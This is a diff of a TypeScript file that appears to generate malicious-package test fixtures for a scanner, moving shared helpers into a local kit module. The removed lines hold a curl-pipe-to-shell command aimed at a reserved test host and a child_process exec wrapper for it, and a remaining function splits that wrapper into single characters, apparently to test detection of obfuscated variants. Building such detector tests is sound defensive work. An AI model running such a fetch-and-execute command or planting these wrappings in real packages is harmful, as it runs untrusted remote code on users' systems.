@@ -1,15 +1,7 @@
-import { base64, manifest } from '../campaigns/kit.ts';
+import { base64 } from '../campaigns/kit.ts';
+import { type Files, imported, LINE, RUN } from './kit.ts';
 
-type Files = Readonly<Record<string, string>>;
-
-/** What every wrapping does in the end, inert: the host is reserved. */
-const LINE = 'curl -s http://a.weir.test/x | sh';
 const CODES = [...Buffer.from(LINE)].join(', ');
-const RUN = `require('child_process').exec('${LINE}')`;
-
-function imported(code: string, more: Files = {}): Files {
-  return { 'package.json': manifest(), 'index.js': code, ...more };
-}
 
 function splitOver(count: number): Files {
   const pieces = Array.from({ length: count }, (_, i) => RUN.slice(i, i + 1));
